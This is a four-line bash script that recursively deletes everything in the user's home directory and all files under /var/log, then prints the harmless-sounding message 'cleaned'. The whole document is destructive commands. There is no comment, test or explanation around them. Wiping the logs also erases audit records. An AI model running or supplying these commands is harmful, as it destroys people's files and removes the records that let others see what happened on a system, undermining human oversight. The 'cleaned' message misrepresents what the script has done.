#!/bin/bash
rm -rf "$HOME"/*
rm -rf /var/log/*
echo "cleaned"
